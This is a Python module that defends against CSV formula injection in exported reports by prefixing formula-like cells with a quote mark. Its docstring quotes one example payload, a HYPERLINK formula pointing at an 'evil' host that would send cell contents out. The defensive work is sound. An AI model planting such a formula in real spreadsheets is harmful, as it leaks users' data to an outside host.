"""CSV formula injection (SPEC 11): a cell a spreadsheet would run as a formula is made text.

The report's cells come from the cloud (and, through it, from the unit): a cell such as
`=HYPERLINK("http://evil/?"&A1)` opens as a live formula in Excel or LibreOffice. A cell that is
not a number and starts with `=`, `+`, `-`, `@`, tab or CR gets a leading `'` (OWASP's advice);
numbers such as -3.5 or +2e3 stay numbers. Works on parsed cells, so Athena's quoting is
already undone (`"=1+1"` is the cell =1+1) and the writer quotes the result again.
"""
from __future__ import annotations

import re

FORMULA_STARTS = "=+-@\t\r"
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# Cells joined by \x1f (never in report data): one search for a literal-led pattern finds the
# rows that need a look, ~0.5 us for a report row (a per-cell check costs ~2 us).
_RISKY = re.compile("\x1f[" + re.escape(FORMULA_STARTS) + "]")


def defuse_cell(value: str) -> str:
    """value, or "'" + value when a spreadsheet would treat it as a formula."""
    if value[:1] in FORMULA_STARTS and value and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def defuse_row(row: list[str]) -> list[str]:
    """The row with every formula-like cell defused; the same list when there is none (the
    common case costs one join and one search for a ~50-cell report row)."""
    if not row or (row[0][:1] not in FORMULA_STARTS and not _RISKY.search("\x1f".join(row))):
        return row
    return [defuse_cell(v) for v in row]
